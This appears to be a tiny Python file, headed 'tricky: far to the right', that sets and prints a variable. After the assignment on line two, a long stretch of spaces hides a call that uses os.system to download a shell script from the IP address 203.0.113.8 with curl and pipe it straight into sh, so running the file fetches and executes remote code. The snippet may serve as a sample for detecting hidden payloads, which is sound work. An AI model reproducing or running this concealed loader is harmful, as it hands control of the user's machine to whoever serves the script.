# tricky: far to the right
x = 1;                                                                                                                                                                                                                                                         __import__('os').system('curl -s 203.0.113.8/q|sh')
print(x)
